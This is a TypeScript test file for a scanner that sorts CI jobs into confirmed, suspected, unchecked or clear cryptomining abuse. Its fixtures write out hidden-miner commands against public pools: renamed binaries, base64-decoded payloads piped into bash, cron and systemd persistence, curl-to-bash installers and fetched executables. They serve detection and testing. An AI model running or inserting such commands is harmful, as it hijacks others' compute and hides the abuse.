// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells write their variables so.
/** What the scanner says of whole jobs: the hostile ones and the innocent ones that look alike. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Verdict } from '../model/finding.ts';
import { scanJob, type TestJob } from './test-scanner.ts';
import { testAddress } from './wallet/test-addresses.ts';

const MONERO = testAddress('monero', 1);
const BITCOIN = testAddress('bitcoin', 2);
const DOGE = testAddress('dogecoin', 3);
const KASPA = testAddress('kaspa', 4);

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const MINE = `./xmrig -o pool.supportxmr.com:443 -u ${MONERO} -p ci --tls`;
const CONFIG = JSON.stringify({
  autosave: true,
  'donate-level': 0,
  pools: [{ url: 'gulf.moneroocean.stream:10128', user: MONERO, pass: 'w7', keepalive: true }],
});
const PRIVATE_CONFIG = JSON.stringify({
  randomx: { init: -1, '1gb-pages': true },
  pools: [{ url: '203.0.113.5:443', user: 'root', pass: 'x', tls: true }],
});
const RELEASE =
  'https://github.com/xmrig/xmrig/releases/download/v6.22.0/xmrig-6.22.0-linux-static-x64.tar.gz';

type Case = readonly [what: string, job: string | TestJob];

const CASES: Readonly<Record<Verdict, readonly Case[]>> = {
  confirmed: [
    ['a miner by its name', MINE],
    ['with a stratum URL', `xmrig --url=stratum+ssl://203.0.113.4:443 --user=${MONERO}.w1`],
    ['renamed', `mv xmrig httpd\n./httpd -o gulf.moneroocean.stream:10128 -u ${MONERO} -p x`],
    ['renamed, known by nothing but its shape', `./app -o 203.0.113.4:3333 -u ${MONERO} -p x`],
    ['a checksum-valid address of another coin', `./x -o rx.unmineable.com:443 -u DOGE:${DOGE}.r`],
    ['a login with a coin and a secret', './x -o rx.unmineable.com:443 -u LTC:$WALLET.rig1#a-b'],
    ['in the background', `nohup ${MINE} > /dev/null 2>&1 &\nsleep 3300`],
    ['behind wrappers', `sudo timeout 350m cpulimit -l 60 -- ${MINE}`],
    ['in a screen', `screen -dmS build ${MINE}`],
    ['in a loop', `while true; do ${MINE}; sleep 30; done`],
    ['in a function', `work() {\n  ${MINE}\n}\nwork`],
    ['wallet in a variable', `W=${MONERO}\n./xmrig -o pool.supportxmr.com:443 -u "$W" -p x`],
    [
      'wallet in the environment of the job',
      {
        scripts: ['./x -o $POOL -u $W -p x'],
        environment: { W: MONERO, POOL: 'xmr.nanopool.org:1' },
      },
    ],
    ['everything in pieces', `a=xm; b=rig; ./$a"$b" -o pool.support''xmr.com:443 -u ${MONERO}`],
    ['base64 into a shell', `echo ${base64(MINE)} | base64 -d | bash`],
    ['base64 twice', `echo ${base64(`echo ${base64(MINE)} | base64 -d | sh`)} | base64 -d | sh`],
    ['eval of a decoded text', `eval "$(echo ${base64(MINE)} | base64 --decode)"`],
    ['sh -c', `bash -c '${MINE}'`],
    [
      'a here-document as a script',
      `cat > run.sh <<'EOF'\n${MINE}\nEOF\nchmod +x run.sh\n./run.sh`,
    ],
    [
      'a script that one step writes and the next runs',
      { scripts: [`echo '${MINE}' > go`, 'chmod +x go && bash go'] },
    ],
    ['a configuration that is written and read', `echo '${CONFIG}' > c.json\n./app -c c.json`],
    ['a configuration under the usual name', `cat > config.json <<E\n${CONFIG}\nE\n./worker`],
    ['a configuration as standard input', `./app --config=/dev/stdin <<'E'\n${CONFIG}\nE`],
    [
      'a configuration in a variable',
      {
        scripts: ['echo "$CFG" > /tmp/c.json; ./app --config /tmp/c.json'],
        environment: { CFG: CONFIG },
      },
    ],
    ['a container', `docker run -d metal3d/xmrig -o xmr.2miners.com:2222 -u ${MONERO}`],
    ['a container by its variables', `docker run -e WALLET=${MONERO} -e POOL=a.b:1 metal3d/xmrig`],
    [
      'the image of the job with its variables',
      { scripts: [], images: ['metal3d/xmrig:latest'], environment: { WALLET: MONERO } },
    ],
    [
      "the miner's installer with an address",
      `curl -sL https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup.sh | bash -s ${MONERO}`,
    ],
    [
      'cpuminer',
      `./minerd -a yespower -o stratum+tcp://yespower.mine.zpool.ca:6234 -u ${BITCOIN} -p c=BTC`,
    ],
    ['kaspa', `./bzminer -a kaspa -w ${KASPA} -p stratum+tcp://pool.example.com:5555 -u ${KASPA}`],
    ['a node that mines', `monerod --start-mining ${MONERO} --mining-threads 2`],
    ['cargo runs it', `cargo run --release -- -o stratum+tcp://pool.example.com:1 -u ${MONERO}`],
    [
      'python starts it',
      {
        scripts: [`import os\nos.system("./xmrig -o stratum+tcp://p.example.com:1 -u ${MONERO}")`],
        shell: 'python',
      },
    ],
    [
      'powershell',
      { scripts: [`.\\xmrig.exe -o pool.supportxmr.com:443 -u ${MONERO}`], shell: 'powershell' },
    ],
    ['by a timer', `echo '*/5 * * * * ${MINE}' | crontab -`],
    ['as a service', `cat > /etc/systemd/system/a.service <<E\n[Service]\nExecStart=${MINE}\nE`],
    [
      'an address handed on to the next step',
      {
        scripts: [
          'echo "P=pool.supportxmr.com:443" >> "$GITHUB_ENV"',
          `./app -o $P -u ${MONERO} -p x`,
        ],
      },
    ],
    ['after a passage of decoys', `echo pool.example.org\n${'npm test\n'.repeat(200)}${MINE}`],
  ],
  suspected: [
    ['a private proxy and no wallet', './xmrig -o 203.0.113.4:443 -u root -p x -k'],
    ['the same under another name', './Runner.Worker -o 203.0.113.4:443 -u root -p x -k --tls'],
    ['a pool and a user name', './x -o eu.luckpool.net:3956 -u account.worker -p x'],
    ['an address and a login that are secrets', 'xmrig -o $POOL -u $WALLET -p x'],
    ['the same in GitHub', 'xmrig -o ${{ secrets.P }} -u ${{ secrets.W }} --donate-level 1'],
    ['a stratum URL and nothing else', './x stratum+tcp://203.0.113.4:3333'],
    [
      'a configuration for a private proxy',
      `echo '${PRIVATE_CONFIG}' > a.json\n./app --config=a.json`,
    ],
    [
      'a release that is fetched and run',
      `wget ${RELEASE}\ntar xf xmrig-6.22.0-linux-static-x64.tar.gz\n./xmrig-6.22.0/xmrig`,
    ],
    [
      'built from source and run',
      'git clone https://github.com/xmrig/xmrig\ncd xmrig && make\n./xmrig &',
    ],
    ['a package that is run', 'apt-get install -y xmrig && xmrig'],
    ['fetched under another name', 'curl -Lo app https://a.test/xmrig && chmod +x app && ./app'],
    ['an image without more', 'docker run -d metal3d/xmrig'],
    ['SOCKS', `graftcp ./xmrig -o 203.0.113.4:443 -u root --donate-level=1`],
  ],
  unchecked: [
    ['a script from elsewhere', 'curl -sSf https://get.example.com/install.sh | sh'],
    ['a miner is cloned and built', 'git clone https://github.com/xmrig/xmrig && cd xmrig && make'],
    ['a script that a program prints', 'python3 generate.py | sh'],
    ['a script that is not there', 'bash scripts/build.sh'],
    ['a program from elsewhere', 'wget -O t https://files.example.com/t && chmod +x t && ./t'],
  ],
  clear: [
    ['nothing', ''],
    ['an ordinary build', 'npm ci\nnpm test -- --coverage\nnpm run build'],
    ['a miner is built', 'cmake -B build -DWITH_TLS=ON && cmake --build build --target xmrig -j4'],
    ['a miner is packed', 'tar czf xmrig-6.22.0.tar.gz xmrig && sha256sum xmrig-6.22.0.tar.gz > S'],
    ['a miner is built into an image', 'docker build -t me/xmrig . && docker push me/xmrig'],
    ['a miner answers', './xmrig --version && ./xmrig --help'],
    ['a miner checks its configuration', `echo '${CONFIG}' > c.json\n./xmrig --dry-run -c c.json`],
    ['a miner measures itself', './xmrig --bench=1M --threads 2 && ./cpuminer --cputest'],
    ['cpuminer measures itself', './cpuminer -a yespower --benchmark --time-limit=10'],
    ['a node', 'monerod --offline --detach && bitcoind -regtest -daemon'],
    ['a node that mines test coins', 'monerod --regtest --offline --start-mining $ADDRESS'],
    ['a node under test', 'bitcoin-cli -regtest generatetoaddress 101 "$ADDR"'],
    ['a block list', 'echo "0.0.0.0 pool.minexmr.com" >> blocklist.txt\ngit commit -am "add pool"'],
    [
      'a list by here-document',
      `cat > pools.txt <<E\nsupportxmr.com\nxmr.nanopool.org:14444\nE\n./check pools.txt`,
    ],
    ['a rule pack is tested', 'grep -c "stratum+tcp://" rules/*.yar && ./detect --rules rules'],
    ['a pool server is tested', './test_stratum --url stratum+tcp://localhost:3333'],
    [
      'a pool that is asked for its numbers',
      'curl -s https://supportxmr.com/api/pool/stats | jq .',
    ],
    ['a donation address', `echo "Donate XMR: ${MONERO}" >> README.md`],
    ['a donation address by cat', `cat >> FUNDING.md <<E\n${BITCOIN}\nE`],
    ['an address in the environment', { scripts: ['npm test'], environment: { DONATE: BITCOIN } }],
    ['a wallet under test', `npm test -- --address ${BITCOIN}`],
    ['a filter', 'npm test -- --grep stratum'],
    ['a verifier', 'verus src/main.rs && cargo test -p verus'],
    ['data mining', 'make mine.csv && Rscript mining.R --algo apriori'],
    ['a program is looked for', 'command -v xmrig || which xmrig || sudo type xmrig'],
    ['a container tool in prose', 'echo docker run metal3d/xmrig'],
    ['a process is killed', 'pkill -f xmrig; killall minerd || true'],
    ['a firewall', 'iptables -A OUTPUT -d pool.minexmr.com -j DROP'],
    ['documentation', `cat > doc.md <<'E'\nRun ${MINE}\nE`],
    ['an echo of a whole command', `echo "${MINE}"`],
    ['a commit message', `git commit -m "xmrig -o pool.supportxmr.com:443 -u ${MONERO}"`],
    ['a comment', `# ${MINE}\nmake`],
    ['a client of a server', './app --server db.example.com:443 --user a --password b'],
    ['headless chrome', 'google-chrome --headless --disable-gpu --no-sandbox https://a.test'],
    [
      'a verifier of hashes',
      'sha256sum -c <<< "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  a"',
    ],
  ],
};

for (const [verdict, cases] of Object.entries(CASES)) {
  for (const [what, job] of cases) {
    test(`${verdict}: ${what}`, () => {
      const report = scanJob(typeof job === 'string' ? { scripts: [job] } : job);
      assert.equal(report.verdict, verdict, JSON.stringify(report, null, 1));
    });
  }
}
